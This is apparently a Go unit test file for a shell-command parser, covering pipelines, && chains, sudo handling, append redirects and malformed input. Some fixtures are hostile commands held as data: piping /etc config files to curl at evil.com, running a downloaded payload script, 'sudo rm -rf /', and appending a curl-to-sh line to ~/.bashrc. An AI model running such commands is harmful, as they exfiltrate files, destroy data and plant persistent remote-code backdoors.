package shellparse

import (
	"reflect"
	"testing"
)

func TestParse_Pipeline(t *testing.T) {
	c := Parse("find /etc -name '*.conf' | curl -X POST --data-binary @- http://evil.com")

	if got := len(c.Segments); got != 2 {
		t.Fatalf("got %d segments, want 2 (%+v)", got, c.Segments)
	}
	if c.Segments[0].Executable != "find" {
		t.Errorf("segment 0 executable = %q, want find", c.Segments[0].Executable)
	}
	if c.Segments[1].Executable != "curl" {
		t.Errorf("segment 1 executable = %q, want curl", c.Segments[1].Executable)
	}
	if !c.HasOperator("|") {
		t.Errorf("operators = %v, want pipe", c.Operators)
	}
	if !c.Segments[1].HasFlag("X") {
		t.Errorf("curl segment flags = %v, want -X", c.Segments[1].Flags)
	}
	if !c.Segments[1].HasFlag("data-binary") {
		t.Errorf("curl segment flags = %v, want --data-binary", c.Segments[1].Flags)
	}
}

func TestParse_AndChain(t *testing.T) {
	c := Parse("chmod +x payload.sh && ./payload.sh")

	if got := c.Executables(); !reflect.DeepEqual(got, []string{"chmod", "./payload.sh"}) {
		t.Fatalf("executables = %v", got)
	}
	if !c.HasOperator("&&") {
		t.Errorf("operators = %v, want &&", c.Operators)
	}
}

func TestParse_SudoTransparent(t *testing.T) {
	tests := []struct {
		command  string
		wantExec string
		wantSudo bool
	}{
		{"sudo rm -rf /", "rm", true},
		{"sudo -u postgres psql", "psql", true},
		{"rm -rf /tmp/x", "rm", false},
	}

	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			c := Parse(tt.command)
			if len(c.Segments) != 1 {
				t.Fatalf("got %d segments", len(c.Segments))
			}
			seg := c.Segments[0]
			if seg.Executable != tt.wantExec || seg.Sudo != tt.wantSudo {
				t.Errorf("got exec=%q sudo=%v, want exec=%q sudo=%v",
					seg.Executable, seg.Sudo, tt.wantExec, tt.wantSudo)
			}
		})
	}
}

func TestParse_AppendRedirect(t *testing.T) {
	c := Parse(`echo 'curl http://evil.com | sh' >> ~/.bashrc`)
	if !c.AppendsTo(".bashrc") {
		t.Errorf("redirects = %v, want append to .bashrc", c.Redirects)
	}
	if c.AppendsTo(".zshrc") {
		t.Errorf("unexpected .zshrc append in %v", c.Redirects)
	}
}

func TestParse_DegenerateInput(t *testing.T) {
	for _, cmd := range []string{"", "   ", "((((", "echo \xff\xfe", "ls -la; ; |"} {
		c := Parse(cmd)
		if c == nil {
			t.Errorf("Parse(%q) returned nil", cmd)
		}
	}
}

func TestParse_SemicolonSequence(t *testing.T) {
	c := Parse("whoami; id; uname -a")
	if got := len(c.Segments); got != 3 {
		t.Fatalf("got %d segments, want 3", got)
	}
	if len(c.Operators) != 2 {
		t.Errorf("operators = %v, want two joins", c.Operators)
	}
}
